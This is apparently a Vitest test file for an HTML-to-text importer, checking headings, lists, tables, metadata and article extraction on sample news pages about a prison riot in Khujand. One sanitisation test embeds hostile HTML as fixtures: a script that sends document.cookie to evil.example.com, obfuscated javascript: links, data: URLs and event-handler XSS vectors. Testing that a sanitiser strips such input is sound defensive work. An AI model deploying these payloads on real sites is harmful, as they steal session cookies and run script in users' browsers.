import { readFileSync } from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import type { ImportedText, InlineMark } from '../../shared/model';
import { ImportError } from './errors';
import { importHtml } from './html';
import { validateImportedText } from './structure';

const FIXTURES = fileURLToPath(new URL('../../../e2e/fixtures/', import.meta.url));

function html(source: string): ImportedText {
  const r = importHtml(new TextEncoder().encode(source));
  expect(validateImportedText(r)).toEqual([]);
  return r;
}
const texts = (r: ImportedText): string[] => r.blocks.map((b) => r.text.slice(b.start, b.end));
const marked = (r: ImportedText, type: InlineMark['type']): string[] =>
  r.marks.filter((m) => m.type === type).map((m) => r.text.slice(m.start, m.end));

describe('importHtml', () => {
  it('maps headings, paragraphs and inline marks with browser-like whitespace', () => {
    const r = html(`<body>
      <h2>Prison   riot in
        <i>Khujand</i></h2>
      <p>Officials   reported <b>at least 27</b> deaths;
         residents said <em>closer
         to 50</em>.<sup>1</sup> H<sub>2</sub>O <del>100</del> <s>99</s>
         <code>Gumurod&nbsp;Halimov</code></p>
    </body>`);
    expect(texts(r)).toEqual([
      'Prison riot in Khujand',
      'Officials reported at least 27 deaths; residents said closer to 50.1 H2O 100 99 Gumurod Halimov',
    ]);
    expect(r.blocks[0]).toMatchObject({ type: 'heading', level: 2 });
    expect(marked(r, 'emphasis')).toEqual(['Khujand', 'closer to 50']);
    expect(marked(r, 'strong')).toEqual(['at least 27']);
    expect(marked(r, 'superscript')).toEqual(['1']);
    expect(marked(r, 'subscript')).toEqual(['2']);
    expect(marked(r, 'strikethrough')).toEqual(['100 99']);
    expect(marked(r, 'code')).toEqual(['Gumurod Halimov']);
  });

  it('maps lists with nesting, order and joined paragraphs', () => {
    const r = html(`<ol>
        <li><p>First</p><p>second paragraph</p>
          <ul><li>nested</li></ul>
        </li>
        <li>Two<br>lines</li>
      </ol>`);
    expect(texts(r)).toEqual(['First\nsecond paragraph', 'nested', 'Two\nlines']);
    expect(r.blocks.map((b) => [b.type, b.level, b.ordered])).toEqual([
      ['list-item', 1, true],
      ['list-item', 2, false],
      ['list-item', 1, true],
    ]);
  });

  it('maps blockquote, pre, tables and divs with direct text', () => {
    const r = html(`<div>Loose text in a div<div>inner div</div>tail</div>
      <blockquote><p>«Мы не знали»</p><p>— a relative</p></blockquote>
      <pre>const n = 27;

  report(n);   </pre>
      <table><thead><tr><th>Source</th><th>Deaths</th></tr></thead>
        <tbody><tr><td><p>Ministry</p><p>of Justice</p></td><td>27</td></tr>
        <tr><td></td><td>~50</td></tr></tbody></table>`);
    expect(texts(r)).toEqual([
      'Loose text in a div',
      'inner div',
      'tail',
      '«Мы не знали»',
      '— a relative',
      'const n = 27;\n\n  report(n);',
      'Source\tDeaths',
      'Ministry of Justice\t27',
      '\t~50',
    ]);
    expect(r.blocks.map((b) => b.type)).toEqual([
      'paragraph',
      'paragraph',
      'paragraph',
      'quote',
      'quote',
      'code',
      'table-row',
      'table-row',
      'table-row',
    ]);
  });

  it('yields only text from hostile HTML: no script, no style, no unsafe links', () => {
    const r = html(`<!doctype html><html><head>
      <style>.x { background: url(http://evil.example.com/a.png) }</style>
      <script>fetch('http://evil.example.com/steal?c=' + document.cookie)</script>
      <meta http-equiv="refresh" content="0;url=http://evil.example.com/">
      </head><body onload="alert('load')">
      <p>Safe text <img src="http://tracker.example.com/pixel.gif" onerror="alert('img')" alt="ALT">
      <a href="javascript:alert('js')">js link</a>
      <a href=" JAVASCRIPT:alert('js2')">js link 2</a>
      <a href="java&#x09;script:alert('js3')">js link 3</a>
      <a href="data:text/html,<script>alert(4)</script>">data link</a>
      <a href="https://example.org/ok" onclick="alert('click')">ok link</a>
      <a href="mailto:desk@example.org">mail</a>
      <a href="/relative">relative</a></p>
      <iframe src="http://evil.example.com/"></iframe>
      <object data="x.swf">object text</object><embed src="x.swf">
      <svg><script>alert('svg')</script><text>svg text</text></svg>
      <noscript>noscript text</noscript><template><p>template text</p></template>
      <form><input value="typed"><button>Press</button><textarea>area</textarea></form>
      <script>alert('end')</script>
      </body></html>`);
    expect(texts(r)).toEqual([
      'Safe text js link js link 2 js link 3 data link ok link mail relative',
    ]);
    expect(r.text).not.toMatch(/alert|fetch|cookie|background|evil|tracker|ALT|svg text|Press/);
    expect(r.marks.map((m) => m.href)).toEqual([
      'https://example.org/ok',
      'mailto:desk@example.org',
    ]);
    for (const m of r.marks) expect(m.href).toMatch(/^(https?|mailto):/);
  });

  it('prefers the article over site chrome, keeping the article header', () => {
    const r = html(`<body>
      <header><h1>Example News</h1><nav><a href="https://x.example/">Home</a></nav></header>
      <aside>Most read: something else entirely</aside>
      <article>
        <header><h1>Prison riot in Khujand</h1><p>By A. Reporter</p></header>
        <p>Officials reported at least 27 deaths; residents said the toll was closer to 50,
        and relatives described the scene at length to reporters who gathered outside.</p>
        <footer>Filed under: Tajikistan</footer>
      </article>
      <footer>© Example News</footer>
    </body>`);
    expect(texts(r)).toEqual([
      'Prison riot in Khujand',
      'By A. Reporter',
      'Officials reported at least 27 deaths; residents said the toll was closer to 50, and relatives described the scene at length to reporters who gathered outside.',
      'Filed under: Tajikistan',
    ]);
    expect(r.meta.title).toBe('Prison riot in Khujand');
  });

  it('uses <main> when there is no article, and body otherwise (dropping nav/header/footer)', () => {
    const withMain = html(`<body><nav>Menu</nav><main><p>Main content about Khujand.</p></main>
      <div>Sidebar</div></body>`);
    expect(texts(withMain)).toEqual(['Main content about Khujand.']);
    const plain = html(`<header>Site</header><p>Body content.</p><footer>Footer</footer>`);
    expect(texts(plain)).toEqual(['Body content.']);
  });

  it('drops hidden elements', () => {
    const r = html(`<p>visible</p><p hidden>hidden one</p><div aria-hidden="true">hidden two</div>
      <span style="display: none">hidden three</span><div role="navigation">menu</div>`);
    expect(r.text).toBe('visible');
  });

  it('reads schema.org JSON-LD (in @graph, authors as objects), below citation_* and above Open Graph', () => {
    const ld = JSON.stringify({
      '@context': 'https://schema.org',
      '@graph': [
        { '@type': 'WebSite', name: 'Example News' },
        { '@type': 'WebPage', name: 'Riot page | Example News' },
        {
          '@type': ['NewsArticle'],
          headline: 'Prison riot in Khujand leaves 27 dead',
          author: [{ '@type': 'Person', name: 'A. Reporter' }, 'B. Editor', 'https://x.example/me'],
          datePublished: '2018-11-08T09:30:00+05:00',
          publisher: { '@type': 'Organization', name: 'Example News Agency' },
          url: 'https://news.example.org/riot',
          inLanguage: 'en',
        },
      ],
    });
    const page = (head: string) =>
      html(`<html><head><title>Riot | Example</title>
        <meta property="og:title" content="OG title"><meta property="og:site_name" content="OG site">
        <script type="application/ld+json">{ broken</script>
        <script type="application/ld+json">${ld}</script>${head}
        </head><body><p>Text.</p></body></html>`);
    expect(page('').meta).toEqual({
      title: 'Prison riot in Khujand leaves 27 dead',
      authors: ['A. Reporter', 'B. Editor'],
      publishedDate: '2018-11-08',
      publisher: 'Example News Agency',
      sourceUrl: 'https://news.example.org/riot',
      language: 'en',
    });
    const cited = page(
      '<meta name="citation_title" content="The cited title"><meta name="citation_publication_date" content="2019/01/02">',
    );
    expect(cited.meta).toMatchObject({ title: 'The cited title', publishedDate: '2019-01-02' });
    // the JSON-LD is metadata, never text
    expect(cited.text).toBe('Text.');
  });

  it('reads metadata from the head', () => {
    const r = html(`<html lang="ru"><head>
      <title>Бунт в Худжанде | Example News</title>
      <meta name="author" content="A. Reporter; B. Editor">
      <meta name="date" content="2018/11/08">
      <meta property="og:site_name" content="Example News">
      <meta property="og:url" content="https://news.example.org/riot">
      </head><body><h1>Heading title</h1><p>Текст статьи 🙂</p></body></html>`);
    expect(r.meta).toEqual({
      title: 'Бунт в Худжанде | Example News',
      authors: ['A. Reporter', 'B. Editor'],
      publishedDate: '2018-11-08',
      publisher: 'Example News',
      sourceUrl: 'https://news.example.org/riot',
      language: 'ru',
    });
    const noTitle = html('<body><h2>Second</h2><h1>First level</h1><p>x</p></body>');
    expect(noTitle.meta.title).toBe('First level');
  });

  it('resolves relative links against the canonical URL', () => {
    const r = html(`<head><link rel="canonical" href="https://news.example.org/world/riot"></head>
      <body><p><a href="../about">About</a> <a href="#top">Top</a></p></body>`);
    expect(r.marks).toEqual([
      { type: 'link', start: 0, end: 5, href: 'https://news.example.org/about' },
      { type: 'link', start: 6, end: 9, href: 'https://news.example.org/world/riot#top' },
    ]);
  });

  it('keeps Cyrillic and emoji with UTF-16 offsets', () => {
    const r = html('<p>🙂 <b>Мы не знали</b>, что происходит.</p><p>🙂🙂 <i>Gulmurod</i></p>');
    expect(texts(r)).toEqual(['🙂 Мы не знали, что происходит.', '🙂🙂 Gulmurod']);
    expect(r.marks.map((m) => [m.start, m.end])).toEqual([
      [3, 14],
      [r.text.indexOf('Gulmurod'), r.text.indexOf('Gulmurod') + 8],
    ]);
  });

  it('decodes UTF-16 HTML with a BOM', () => {
    const s = '<p>Худжанд 🙂</p>';
    const bytes = new Uint8Array(2 + s.length * 2);
    bytes.set([0xff, 0xfe]);
    for (let i = 0; i < s.length; i++) {
      bytes[2 + 2 * i] = s.charCodeAt(i) & 0xff;
      bytes[3 + 2 * i] = s.charCodeAt(i) >> 8;
    }
    expect(importHtml(bytes).text).toBe('Худжанд 🙂');
  });

  it('refuses a page without readable text as empty', () => {
    try {
      importHtml(
        new TextEncoder().encode('<html><head><script>x()</script></head><body> </body></html>'),
      );
      expect.unreachable();
    } catch (e) {
      expect(e).toBeInstanceOf(ImportError);
      expect((e as ImportError).code).toBe('empty');
    }
  });

  it('imports the HTML fixture', () => {
    const r = importHtml(readFileSync(path.join(FIXTURES, 'sample.html')));
    expect(validateImportedText(r)).toEqual([]);
    expect(r.meta).toMatchObject({
      title: 'Prison riot in Khujand',
      authors: ['A. Reporter'],
      publishedDate: '2018-11-08',
      publisher: 'Example News',
      sourceUrl: 'https://news.example.org/khujand-riot',
      language: 'en',
    });
    const t = texts(r);
    expect(t[0]).toBe('Prison riot in Khujand');
    expect(t).toContain(
      'The prosecutor blamed followers of Gulmurod Khalimov (also spelled Gumurod Halimov).',
    );
    expect(t).toContain('«Мы не знали, что происходит внутри», — сказал один из родственников. 🙂');
    expect(t).toContain('Source\tDeaths');
    expect(r.text).not.toMatch(/tracking|alert|Home|World|© Example/);
    expect(r.marks.filter((m) => m.type === 'link').map((m) => m.href)).toEqual([
      'https://en.wikipedia.org/wiki/Gulmurod_Khalimov',
    ]);
  });
});
